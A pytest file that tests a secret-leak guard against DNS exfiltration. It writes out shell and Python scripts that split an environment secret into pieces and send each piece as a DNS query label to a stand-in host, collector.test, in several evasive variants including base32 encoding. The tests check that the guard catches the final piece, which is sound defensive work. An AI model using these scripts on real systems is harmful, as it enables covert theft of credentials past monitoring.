# SPDX-License-Identifier: MIT
"""A secret leaves in pieces, each the label of a DNS question of its own."""

from __future__ import annotations

import sys
from collections.abc import Callable

import pytest

from lab import Lab, tokens
from lab.guard import Guarded, assert_leak_stopped
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

SCRIPT = """\
n=0
while [ -n "$VALUE" ]; do
    piece=$(printf %.{size}s "$VALUE"); VALUE=${{VALUE#"$piece"}}
    {ask}
    n=$((n+1))
done
"""
ASK = {
    "one-process-each": "getent hosts $piece.collector.test || :",
    "counted": "getent hosts $n-$piece.collector.test || :",
    "counted-behind": "getent hosts $piece.$n.collector.test || :",
    "deeper-parent": "getent hosts $piece.x7.drop.collector.test || :",
    "both-families": "getent ahosts $piece.collector.test || :",
    "two-labels": "getent hosts ${piece%???}.${piece#?????}.collector.test || :",
    "others-between": "getent hosts $piece.collector.test; getent hosts other.test || :",
}


def asker(lab: Lab, size: int, ask: str) -> list[str]:
    """A script that takes the secret from its environment: no command line holds all of it."""
    script = lab.directory / "ask.sh"
    script.write_text(SCRIPT.format(size=size, ask=ask))
    return ["sh", str(script)]


def pieces(token: Token, size: int) -> list[str]:
    return [token.value[at : at + size] for at in range(0, len(token.value), size)]


def arrived(lab: Lab, token: Token, size: int) -> list[bool]:
    return [lab.dns.received(piece.encode()) for piece in pieces(token, size)]


def secret() -> Token:
    return Token("VALUE", tokens.hexadecimal().value)


@pytest.mark.parametrize("ask", sorted(ASK))
def test_unguarded_the_name_server_reads_every_piece(lab: Lab, ask: str) -> None:
    token = secret()
    lab.run(asker(lab, 8, ASK[ask].replace("${piece%???}.${piece#?????}", "$piece")), env=token.env)
    assert all(arrived(lab, token, 8))


@pytest.mark.parametrize("mode", ["audit", "block"])
@pytest.mark.parametrize("ask", sorted(ASK))
def test_guarded_the_last_piece_never_arrives(
    lab: Lab, leakstop: Guard, mode: str, ask: str
) -> None:
    token = secret()
    policy = 'version: 1\nallow: ["**.collector.test", other.test]\n'
    run = leakstop(asker(lab, 8, ASK[ask]), mode=mode, policy=policy, secrets=[token])
    if "%" not in ASK[ask]:
        assert arrived(lab, token, 8) == [True] * 4 + [False]
    assert_leak_stopped(run, token, finding="secret-in-dns", program="getent", destination="")


@pytest.mark.parametrize("size", [10, 16, 32])
def test_longer_pieces(lab: Lab, leakstop: Guard, size: int) -> None:
    token = secret()
    run = leakstop(asker(lab, size, ASK["one-process-each"]), mode="audit", secrets=[token])
    assert not arrived(lab, token, size)[-1]
    assert_leak_stopped(run, token, finding="secret-in-dns", program="getent", destination="")


def test_in_another_encoding(lab: Lab, leakstop: Guard) -> None:
    """Base32, as names know no upper case."""
    token = secret()
    program = lab.directory / "ask.py"
    program.write_text(
        "import base64, os, socket\n"
        'text = base64.b32encode(os.environ["VALUE"].encode()).decode().rstrip("=").lower()\n'
        "for at in range(0, len(text), 12):\n"
        "    try:\n"
        '        socket.getaddrinfo(text[at:at + 12] + ".collector.test", 443)\n'
        "    except OSError:\n"
        "        pass\n"
    )
    run = leakstop([sys.executable, str(program)], mode="audit", secrets=[token])
    assert_leak_stopped(run, token, finding="secret-in-dns", program="python", destination="")


def test_ordinary_questions_pass(lab: Lab, leakstop: Guard) -> None:
    token = secret()
    parts = " ".join(pieces(token, 8)[:-1])
    script = f"for n in {parts}; do getent hosts $n.collector.test; done; getent hosts other.test"
    run = leakstop(["sh", "-c", script], mode="audit", secrets=[token])
    assert (run.code, run.findings()) == (0, []), run.stderr
